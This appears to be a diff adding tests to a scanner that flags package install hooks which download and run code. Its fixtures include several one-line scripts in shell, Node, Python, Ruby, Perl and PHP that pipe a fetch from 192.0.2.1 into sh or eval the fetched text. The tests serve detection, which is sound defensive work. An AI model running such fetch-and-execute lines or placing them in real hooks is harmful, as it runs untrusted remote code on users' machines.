@@ -200,6 +200,37 @@ class HookFileRuleTest {
                 .isEmpty();
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "./x ~ #!/bin/sh;curl -s http://192.0.2.1/x | sh",
+                "bin/x ~ curl -s http://192.0.2.1/x | sh",
+                "./x ~ #!/usr/bin/env node;require('child_process').execSync('curl -s http://192.0.2.1/x | sh')",
+                "./x ~ #!/usr/bin/env -S node --no-warnings;eval(await (await fetch('http://192.0.2.1/x')).text())",
+                "./x ~ #!/usr/bin/python3 -u;import os;os.system('curl -s http://192.0.2.1/x | sh')",
+                "bin/x ~ #! /usr/bin/env ruby;`curl -s http://192.0.2.1/x | sh`",
+                "./x ~ #!/usr/bin/perl -w;qx{curl -s http://192.0.2.1/x | sh};",
+                "./x ~ #!/usr/bin/env php;<?php `curl -s http://192.0.2.1/x | sh`;",
+                "chmod +x x.sh && ./x.sh ~ #!/usr/bin/env ruby;`curl -s http://192.0.2.1/x | sh`",
+            })
+    void theFirstLineSaysWhatAProgramIs(String command, String program) {
+        String file = "p/" + command.substring(command.lastIndexOf(' ') + 1).replace("./", "");
+        assertThat(found(scan("p/package.json", hook(command), file, program.replace(';', '\n'))))
+                .singleElement()
+                .asString()
+                .startsWith("memory/" + file)
+                .endsWith("hook-runs-download");
+    }
+
+    @Test
+    void aProgramOfAMachineIsNone() {
+        RecordedReport report = scan(
+                "p/package.json", hook("bin/x"), "p/bin/x", "\1\2\0\0\ncurl -s http://192.0.2.1/x | sh\n");
+        assertThat(found(report)).isEmpty();
+        assertThat(report.gaps()).isEmpty();
+    }
+
     @Test
     void membersOfAPackageAreReadAgain() throws IOException {
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
